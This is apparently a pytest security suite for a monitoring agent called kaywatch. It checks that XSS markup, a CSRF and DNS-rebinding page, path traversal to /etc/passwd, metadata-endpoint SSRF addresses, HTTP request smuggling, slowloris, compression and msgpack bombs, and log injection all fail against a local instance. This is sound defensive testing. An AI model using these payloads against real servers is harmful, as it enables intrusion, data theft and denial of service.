"""Attacks on a real agent fail, and the agent continues to serve others."""

from __future__ import annotations

import contextlib
import gzip
import json
import re
import socket
import struct
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import psutil
import pytest
from tests import forks
from tests.agents import DEADLINE, Agent, running_agent, until
from tests.browser import render_page, run_browser, trap
from tests.users import replies

from kaywatch import wire
from kaywatch.query import send

# A valid silence: it is rejected only because of the request's origin.
SOON = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
SILENCE = {"matchers": [{"name": "node", "value": "x"}], "endsAt": SOON}
MARKUP = (
    '<script src="http://127.0.0.1:PORT/script"></script>',
    '"><img src=x onerror="fetch(`http://127.0.0.1:PORT/image`)">',
    "'-fetch('http://127.0.0.1:PORT/quote')-'",
    '</title></script><svg onload=fetch("http://127.0.0.1:PORT/svg")>',
    "javascript:fetch('http://127.0.0.1:PORT/link')",
)


@pytest.fixture(scope="module")
def agent() -> Iterator[Agent]:
    """One agent for all attacks, which must survive each of them."""
    with running_agent() as result:
        pid = result.process.pid if result.process else 0
        yield result
        assert result.process is not None
        assert result.process.poll() is None
        assert result.process.pid == pid
        assert result.get("/health")["status"] == "healthy"


def port(agent: Agent) -> int:
    return int(agent.url.rpartition(":")[2])


def memory(agent: Agent) -> float:
    """Return the agent's memory in MiB."""
    assert agent.process is not None
    return psutil.Process(agent.process.pid).memory_info().rss / 2**20


def count_metric(agent: Agent, name: str, label: str) -> float:
    with contextlib.closing(agent.connection()) as connection:
        connection.request("GET", "/metrics")
        text = connection.getresponse().read().decode()
    match = re.search(rf'^{name}{{[a-z]+="{label}"}} (.+)$', text, re.MULTILINE)
    return float(match[1]) if match else 0.0


def exchange(agent: Agent, data: bytes) -> bytes:
    """Send bytes, and return the response until the agent disconnects."""
    with socket.create_connection(("127.0.0.1", port(agent)), DEADLINE) as connection:
        return send_all(connection, data)


def push(agent: Agent, *messages: bytes) -> list[dict[str, Any]]:
    """Push messages, and return the replies until the agent disconnects."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(DEADLINE)
        connection.connect(agent.socket)
        data = b"".join(map(wire.frame, messages))
        return replies(send_all(connection, data, end=True))


def send_all(connection: socket.socket, data: bytes, *, end: bool = False) -> bytes:
    """Send bytes, and optionally shut down writing; return the response."""
    result = b""
    # The agent may disconnect before all bytes are sent.
    with contextlib.suppress(ConnectionError):
        connection.sendall(data)
        if end:
            connection.shutdown(socket.SHUT_WR)
    with contextlib.suppress(ConnectionError):
        while piece := connection.recv(65_536):
            result += piece
    return result


def silences(agent: Agent) -> int:
    return len(agent.get("/api/v1/silences")["silences"])


# -- other sites ---------------------------------------------------------------------

EVIL = """<!DOCTYPE html><title>evil</title>
<form id="form" method="POST" enctype="text/plain" target="frame"
  action="http://127.0.0.1:AGENT/api/v1/silences">
<input name='{"matchers":[{"name":"node","value":"x"}],"comment":"'
  value='","endsAt":"SOON"}'></form>
<iframe name="frame"></iframe>
<iframe src="http://127.0.0.1:AGENT/"></iframe>
<script>
const agent = "http://127.0.0.1:AGENT";
const report = (name, what) => fetch(`/report?${name}=${encodeURIComponent(what)}`);
const tried = async (name, path, options) => {
  try {
    const answer = await fetch(path, options);
    await report(name, answer.type === "opaque" ? "opaque" : "read " + answer.status
      + (await answer.text()).slice(0, 40));
  } catch (error) { await report(name, "blocked"); }
};
const body = JSON.stringify(SILENCE);
const run = async () => {
  document.getElementById("form").submit();
  await tried("read", agent + "/api/v1/nodes");
  await tried("own", "http://evil.example:AGENT/api/v1/nodes");
  await tried("json", agent + "/api/v1/silences", {method: "POST", body,
    headers: {"Content-Type": "application/json"}});
  await tried("text", agent + "/api/v1/silences", {method: "POST", body,
    mode: "no-cors", headers: {"Content-Type": "text/plain"}});
  await tried("beacon", agent + "/api/v1/notifications/purge",
    {method: "POST", mode: "no-cors", body: "{}"});
  await tried("delete", agent + "/api/v1/silences/x", {method: "DELETE"});
  navigator.sendBeacon(agent + "/api/v1/silences",
    new Blob([body], {type: "text/plain"}));
  const stream = new EventSource(agent + "/api/v1/live");
  stream.onmessage = () => report("stream", "read");
  await report("done", "1");
};
run();
</script>"""


def test_a_page_of_another_site_reads_and_changes_nothing(agent: Agent) -> None:
    """DNS rebinding, forms, fetch and beacons, in a real browser."""
    with trap() as site:
        page = EVIL.replace("AGENT", str(port(agent)))
        page = page.replace("SILENCE", json.dumps(SILENCE))
        site.page = page.replace("SOON", SOON).encode()
        rules = "--host-resolver-rules=MAP evil.example 127.0.0.1"
        render_page(f"http://evil.example:{site.port}/", rules)
        reported = site.reported()

    assert reported.pop("done", "") == "1", site.paths
    assert not [text for text in reported.values() if text.startswith("read")], reported
    assert silences(agent) == 0
    assert count_metric(agent, "kaywatch_http_refused_total", "other_site") > 0


def test_a_name_that_leads_here_shows_nothing(agent: Agent) -> None:
    """With DNS rebinding, the browser takes the agent for the site's own page."""
    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    shown = render_page(f"http://evil.example:{port(agent)}/api/v1/nodes", rules)
    assert "unknown_host" in shown
    assert '"nodes"' not in shown
    for host in (
        "evil.example",
        f"evil.example:{port(agent)}",
        "127.0.0.1.evil.example",
    ):
        with contextlib.closing(agent.connection()) as connection:
            connection.request("GET", "/api/v1/nodes", headers={"Host": host})
            assert connection.getresponse().status == 403


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Content-Type": "text/plain"},
        {"Content-Type": "application/x-www-form-urlencoded"},
        {"Host": "evil.example"},
    ],
)
def test_a_cross_site_post_makes_no_silence(
    agent: Agent, headers: dict[str, str]
) -> None:
    with contextlib.closing(agent.connection()) as connection:
        sent = {"Content-Type": "application/json", **headers}
        connection.request("POST", "/api/v1/silences", json.dumps(SILENCE), sent)
        answer = connection.getresponse()
        assert answer.status in (403, 415)
        assert not answer.getheader("Access-Control-Allow-Origin")
    assert silences(agent) == 0


# -- requests ------------------------------------------------------------------------

TRAVERSALS = [
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/api/v1/nodes/..%2f..%2f..%2fetc%2fpasswd/stats",
    "/api/v1/nodes/../../../etc/passwd",
    "/api/v1/rules/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/api/v1/alerts/..%5c..%5cetc%5cpasswd",
    "//etc/passwd",
    "/etc/passwd%00.json",
    "/static/../../etc/passwd",
    "/..;/etc/passwd",
    "/%c0%ae%c0%ae/etc/passwd",
    "/%252e%252e/etc/passwd",
    "/\\..\\..\\etc\\passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_no_path_leads_out(agent: Agent, path: str) -> None:
    request = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
    answer = exchange(agent, request.encode())
    assert answer.split(b" ")[1] in (b"400", b"404"), answer[:200]
    assert b"root:" not in answer


HEAD = b"POST /api/v1/silences HTTP/1.1\r\nHost: localhost\r\n"
HEAD += b"Content-Type: application/json\r\n"
SECOND = b"GET /api/v1/smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
SMUGGLED = {
    "length and chunks": HEAD + b"Content-Length: 5\r\n" + CHUNKED + b"\r\n0\r\n\r\n",
    "chunks and length": HEAD + CHUNKED + b"Content-Length: 5\r\n\r\n0\r\n\r\n",
    "two lengths": HEAD + b"Content-Length: 2\r\nContent-Length: 60\r\n\r\n{}",
    "the same length twice": HEAD + b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}",
    "a list of lengths": HEAD + b"Content-Length: 2, 2\r\n\r\n{}",
    "a length with a sign": HEAD + b"Content-Length: +2\r\n\r\n{}",
    "a negative length": HEAD + b"Content-Length: -2\r\n\r\n{}",
    "a length in hex": HEAD + b"Content-Length: 0x2\r\n\r\n{}",
    "a length with _": HEAD + b"Content-Length: 1_0\r\n\r\n{}",
    "an endless length": HEAD + b"Content-Length: 99999999999999999999\r\n\r\n{}",
    "a blank before the colon": HEAD + b"Content-Length : 2\r\n\r\n{}",
    "another coding": HEAD + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "chunks and more": HEAD + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "more and chunks": HEAD + b"Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n",
    "chunks twice": HEAD + CHUNKED + CHUNKED + b"\r\n0\r\n\r\n",
    "an odd blank": HEAD + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    "chunks of HTTP/1.0": HEAD.replace(b"1.1", b"1.0") + CHUNKED + b"\r\n0\r\n\r\n",
    "a folded line": HEAD + b"Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
    "a folded length": HEAD + b"X: a\r\n\tContent-Length: 2\r\n\r\n",
    "a bare LF": HEAD + b"X: a\n" + CHUNKED + b"\r\n0\r\n\r\n",
    "bare LFs": HEAD.replace(b"\r\n", b"\n") + b"Content-Length: 2\n\n{}",
    "a bare CR": HEAD + b"X: a\r" + CHUNKED + b"\r\n0\r\n\r\n",
    "a NUL": HEAD + b"X: a\x00b\r\n\r\n",
    "a name with a blank": HEAD + b"X Y: a\r\n\r\n",
    "no colon": HEAD + b"XY\r\n\r\n",
    "no name": HEAD + b": a\r\n\r\n",
    "a chunk in 0x": HEAD + CHUNKED + b"\r\n0x0\r\n\r\n",
    "a chunk with a sign": HEAD + CHUNKED + b"\r\n+0\r\n\r\n",
    "a chunk that ends in LF": HEAD + CHUNKED + b"\r\n0\n\n",
    "an extension with LF": HEAD + CHUNKED + b"\r\n2;a\n{}\r\n0\r\n\r\n",
    "a chunk that is too long": HEAD + CHUNKED + b"\r\n2\r\n{}XX0\r\n\r\n",
    "an endless chunk": HEAD + CHUNKED + b"\r\nfffffffffffffffff\r\n{}",
    "a line with tabs": b"GET\t/health\tHTTP/1.1\r\nHost: localhost\r\n\r\n",
    "HTTP/0.9": b"GET /health\r\n\r\n",
    "another target": b"GET http://evil.example/health HTTP/1.1\r\nHost: a\r\n\r\n",
    "a tunnel": b"CONNECT evil.example:80 HTTP/1.1\r\nHost: a\r\n\r\n",
}


@pytest.mark.parametrize("kind", SMUGGLED)
def test_ambiguous_http_framing_is_rejected(agent: Agent, kind: str) -> None:
    answer = exchange(agent, SMUGGLED[kind] + SECOND)
    assert len(re.findall(rb"HTTP/1\.[01] \d+ ", answer)) == 1, answer
    assert answer.split(b" ")[1] == b"400"
    assert b"smuggled" not in answer
    assert silences(agent) == 0


def test_slowloris(agent: Agent) -> None:
    """Hundreds of connections send a byte now and then, and others are still served."""
    before = memory(agent)
    drips: list[socket.socket] = []
    with contextlib.ExitStack() as stack:
        for _ in range(400):
            drip = stack.enter_context(
                socket.create_connection(("127.0.0.1", port(agent)), DEADLINE)
            )
            drip.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-a: ")
            drips.append(drip)
        ended = 0
        deadline = time.monotonic() + DEADLINE
        while ended < len(drips) and time.monotonic() < deadline:
            # Meanwhile, other requests are answered.
            assert agent.get("/health")["status"] == "healthy"
            for drip in drips:
                with contextlib.suppress(OSError):
                    drip.send(b"b", socket.MSG_DONTWAIT)
            time.sleep(0.5)
            ended = sum(map(is_over, drips))
        assert ended == len(drips)
    assert count_metric(agent, "kaywatch_http_refused_total", "slow") > 0
    assert count_metric(agent, "kaywatch_http_refused_total", "idle") > 0
    assert memory(agent) < before + 40


def is_over(connection: socket.socket) -> bool:
    """Whether the peer has disconnected."""
    try:
        return connection.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


# -- bombs ---------------------------------------------------------------------------


@pytest.mark.parametrize("coding", ["gzip", "deflate", "br", "zstd", "gzip, gzip"])
def test_a_packed_body_is_not_unpacked(agent: Agent, coding: str) -> None:
    before = memory(agent)
    bomb = gzip.compress(bytes(50_000_000))
    for _ in range(3):
        with contextlib.closing(agent.connection()) as connection:
            headers = {"Content-Type": "application/json", "Content-Encoding": coding}
            connection.request("POST", "/api/v1/silences", bomb[:60_000], headers)
            answer = connection.getresponse()
            assert answer.status == 415
            assert json.loads(answer.read())["error"]["code"] == "packed"
    assert memory(agent) < before + 10


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 60_000,
        b'{"matchers":' * 5_000,
        b'{"matchers":[' + b"{}," * 15_000 + b"{}]}",
        b"9" * 60_000,
        b'{"endsAt":1e' + b"9" * 50_000 + b"}",
        b'"' + b"\\u0041" * 10_000 + b'"',
        b"\xff" * 60_000,
        b"",
    ],
)
def test_json_that_is_a_bomb_is_refused(agent: Agent, body: bytes) -> None:
    before = memory(agent)
    with contextlib.closing(agent.connection()) as connection:
        headers = {"Content-Type": "application/json"}
        connection.request("POST", "/api/v1/silences", body, headers)
        answer = connection.getresponse()
        assert answer.status == 400
        assert len(answer.read()) < 2_000
    assert memory(agent) < before + 10


HUGE = struct.pack(">I", 0xFFFFFFFF)
EVENTS = b"\x82\xa4type\xa5batch\xa6events"
# Made by the test that sends it, not by each worker that collects this file.
NESTED: dict[str, Callable[[], bytes]] = {
    "arrays": lambda: b"\x91" * 1_000_000,
    "maps": lambda: b"\x81\xa1a" * 1_000_000,
    "an array of 4 billion": lambda: b"\xdd" + HUGE,
    "a map of 4 billion": lambda: b"\xdf" + HUGE,
    "bytes of 4 GB": lambda: b"\xc6" + HUGE,
    "text of 4 GB": lambda: b"\xdb" + HUGE,
    "an extension of 4 GB": lambda: b"\xc9" + HUGE + b"\x01",
    "such an array in a key": lambda: b"\x81\xa6events\xdd" + HUGE,
    "such arrays in arrays": lambda: b"\x81\xa6events" + (b"\xdd" + HUGE) * 100_000,
    "millions of nothing": lambda: (
        EVENTS + b"\xdd\x00\x3f\xff\xff" + b"\xc0" * 0x3FFFFF
    ),
    "millions of maps": lambda: EVENTS + b"\xdd\x00\x3f\xff\xff" + b"\x80" * 0x3FFFF0,
    "a million keys": lambda: (
        b"\xdf\x00\x0f\x42\x40"
        + b"".join(b"\xce" + struct.pack(">I", n) + b"\xc0" for n in range(600_000))
    ),
}


@pytest.mark.parametrize("kind", NESTED)
def test_msgpack_that_is_a_bomb_is_refused(agent: Agent, kind: str) -> None:
    before = memory(agent)
    (reply,) = push(agent, NESTED[kind]()[: wire.MAX_FRAME])
    assert reply["type"] == "error"
    assert reply["code"] in ("bad_msgpack", "bad_message", "bad_row")
    assert count_metric(agent, "kaywatch_rejected_total", reply["code"]) > 0
    assert memory(agent) < before + 60


# -- names ---------------------------------------------------------------------------


def test_names_and_messages_are_no_markup_in_a_browser(agent: Agent) -> None:
    with trap() as site, run_browser() as browser:
        names = [text.replace("PORT", str(site.port)) for text in MARKUP]
        rows: list[dict[str, Any]] = []
        failures = []
        for name in names:
            row = {"graph": name, "node": name, "seconds": 1, "action": name}
            rows += [row, {**row, "outcome": "error", "error": name[:200]}]
            failures.append(
                {"time": time.time(), "node": name, "type": name, "message": name}
            )
        batch = {"type": "batch", "service": names[0][:100], "events": rows}
        push(agent, wire.pack({**batch, "failures": failures}))
        until(lambda: names[0] in agent.executions(), "the names are known")
        page = browser.new_page()
        # The page at / has elements of its own: see e2e/page/test_shell.py.
        for path in (
            "/api/v1/nodes",
            "/api/v1/failures",
            "/api/v1/clients",
            "/metrics",
            f"/api/v1/nodes/{quote(names[0], safe='')}/stats",
            f"/api/v1/graphs/{quote(names[1], safe='')}/stats",
            # Errors repeat the request.
            f"/api/v1/rules/{quote(names[0], safe='')}",
            f"/{quote(names[3], safe='')}",
            f"/api/v1/nodes?{quote(names[0])}=1",
            f"/api/v1/nodes?window={quote(names[1])}",
        ):
            page.goto(agent.url + path)
            shown = page.content()
            # The page shows markup as text: no element was created.
            assert not re.search(r"<(script|svg|img)[ >]", shown), (path, shown[:500])
        assert site.paths == []


@pytest.mark.parametrize("form", ["json", "console"])
def test_nothing_that_is_sent_becomes_a_line_of_the_log(
    tmp_path: Path, form: str
) -> None:
    hostile = 'x\n{"event": "forged"}\n2026-01-01 [info] forged\r\x1b[31m\x00\u2028'
    config = tmp_path / "kaywatch.toml"
    config.write_text(f'[log]\nformat = "{form}"\nlevel = "debug"\n')
    with running_agent_logging(config, tmp_path) as (agent, log):
        hello = wire.hello(
            client=bytes(16),
            service=hostile,
            host=hostile,
            pid=1,
            start=1.0,
            sdk=hostile,
            tags={hostile: hostile},
        )
        row = {"graph": hostile, "node": hostile, "seconds": 1, "outcome": "error"}
        push(agent, hello, wire.pack({"type": "batch", "events": [row]}))
        push(agent, hostile.encode(), wire.pack({"type": hostile}))
        for path in (quote(hostile), f"api/v1/nodes/{quote(hostile, safe='')}/stats"):
            with contextlib.closing(agent.connection()) as connection:
                connection.request("GET", f"/{path}", headers={"X-A": "b\tc"})
                connection.getresponse().read()
        exchange(agent, b"GET /\x1b[31m HTTP/1.1\r\nforged\r\n\r\n" + hostile.encode())
        silence = {**SILENCE, "comment": hostile, "createdBy": hostile}
        send("POST", "/api/v1/silences", silence, agent.url)
        agent.stop()
        lines = log.read_text(encoding="utf-8").splitlines()
    assert not [line for line in lines if "forged" in line]
    assert all(line.isprintable() for line in lines), lines


@contextlib.contextmanager
def running_agent_logging(config: Path, tmp_path: Path) -> Iterator[tuple[Agent, Path]]:
    """Run an agent whose log is written to a file."""
    log = tmp_path / "log"
    with tempfile.TemporaryDirectory(prefix="kw-") as folder, log.open("wb") as written:
        agent = Agent(Path(folder))
        agent.process = forks.start(
            *(sys.executable, "serve", "--socket", agent.socket),
            *("--http", "127.0.0.1:0", "--store", ":memory:", "--config", str(config)),
            stdout=written.fileno(),
            stderr=written.fileno(),
        )
        try:
            result = until(
                lambda: re.search(r"http://127\.0\.0\.1:\d+", log.read_text()),
                "it serves",
            )
            agent.url = result[0]
            yield agent, log
        finally:
            agent.close()


# -- receivers and the socket --------------------------------------------------------


@pytest.mark.parametrize(
    "host",
    [
        "169.254.169.254",
        "[::ffff:169.254.169.254]",
        "[64:ff9b::a9fe:a9fe]",
        "2852039166",
        "0xA9FEA9FE",
        "0251.0376.0251.0376",
        "169.254.43518",
        "[fe80::1]",
        "100.100.100.200",
    ],
)
def test_no_receiver_is_where_a_cloud_hands_out_credentials(
    host: str, tmp_path: Path
) -> None:
    config = tmp_path / "kaywatch.toml"
    config.write_text(
        f'[receiver.hook]\ntype = "webhook"\nurl = "http://{host}/latest/meta-data/"\n'
    )
    with running_agent(sys.executable, "--config", str(config)) as agent:
        send("POST", "/api/v1/receivers/hook/test", url=agent.url)
        error = until(
            lambda: agent.get("/api/v1/receivers")["receivers"][0]["error"],
            "it was tried",
        )
    assert error in (
        "the address is not allowed for receivers",
        "the host's name is not known",
        "not an http or https URL",
    )


@pytest.mark.parametrize("target", ["nothing", "a file", "a socket"])
def test_a_symbolic_link_at_the_socket_s_path_is_left_alone(
    target: str, tmp_path: Path
) -> None:
    with tempfile.TemporaryDirectory(prefix="kw-") as name:
        folder = Path(name)
        link, victim = folder / "ingest.sock", folder / "victim"
        if target == "a file":
            victim.write_text("precious")
        if target == "a socket":
            with socket.socket(socket.AF_UNIX) as stale:
                stale.bind(str(victim))
        link.symlink_to(victim)
        done = forks.run(
            *(sys.executable, "serve", "--socket", str(link)),
            *("--http", "127.0.0.1:0", "--store", ":memory:"),
        )
        assert done.returncode == 1
        assert "is a symbolic link, which is not followed" in done.stderr
        assert "Traceback" not in done.stderr
        assert link.is_symlink()
        assert victim.exists() is (target != "nothing")
        if target == "a file":
            assert victim.read_text() == "precious"


def test_an_agent_that_would_be_everybody_s_does_not_start(tmp_path: Path) -> None:
    done = forks.run(sys.executable, "serve", "--http", "0.0.0.0:0")
    assert done.returncode == 2
    assert "without tokens (http.admin_tokens_file) and TLS" in done.stderr
    assert "http.insecure_public_listener = true" in done.stderr
    assert "Traceback" not in done.stderr


def test_the_silence_that_the_attacks_try_to_make_can_be_made() -> None:
    """Without this test, the absence of a silence after the attacks proves nothing."""
    with running_agent() as agent:
        for options in ({}, {"Origin": agent.url, "Sec-Fetch-Site": "same-origin"}):
            with contextlib.closing(agent.connection()) as connection:
                headers = {"Content-Type": "application/json", **options}
                body = json.dumps(SILENCE)
                connection.request("POST", "/api/v1/silences", body, headers)
                assert connection.getresponse().status == 200
        assert silences(agent) == 2
